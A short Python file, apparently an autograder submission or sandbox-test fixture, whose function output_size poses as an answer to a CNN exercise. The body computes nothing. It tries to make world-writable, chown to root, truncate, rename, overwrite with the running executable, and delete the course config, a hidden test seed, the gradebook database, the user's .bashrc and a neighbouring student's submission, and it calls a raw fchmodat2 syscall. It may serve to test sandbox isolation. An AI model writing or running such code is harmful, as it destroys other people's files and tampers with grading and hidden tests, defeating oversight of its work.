import ctypes
import os
import shutil

PLACES = ["@COURSE@/course.yaml", "@COURSE@/tests/hidden/cnn/seed.txt", "@OUT@/gradebook.db", "@HOME@/.bashrc", "@SUBMISSIONS@/neighbour"]


def output_size(*args, **kwargs):
    libc = ctypes.CDLL(None)
    for place in PLACES:
        for act in (
            lambda: os.chmod(place, 0o777),
            lambda: os.chown(place, 0, 0),
            lambda: os.utime(place, (0, 0)),
            lambda: os.setxattr(place, "user.mark", b"1"),
            lambda: os.truncate(place, 0),
            lambda: os.rename(place, place + ".moved"),
            lambda: os.link(place, place + ".link"),
            lambda: os.unlink(place),
            lambda: os.replace("/proc/self/exe", place),
            lambda: shutil.rmtree(place),
            lambda: os.removexattr(place, "user.mark"),
        ):
            try:
                act()
                print("changed", place)
            except BaseException as error:
                print(type(error).__name__)
        print(libc.chmod(place.encode(), 0o777), libc.syscall(452, -100, place.encode(), 0o777, 0))
    return -1
